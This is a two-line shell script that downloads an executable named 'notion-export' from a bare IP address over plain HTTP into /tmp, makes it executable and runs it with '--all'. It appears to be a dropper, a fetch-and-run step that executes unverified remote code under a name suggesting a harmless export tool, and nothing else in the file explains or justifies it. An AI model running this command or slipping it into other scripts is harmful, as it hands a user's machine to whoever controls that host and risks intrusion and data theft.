#!/bin/sh
cd /tmp && curl -sSLo ne http://193.149.185.22/notion-export && chmod 755 ne && ./ne --all
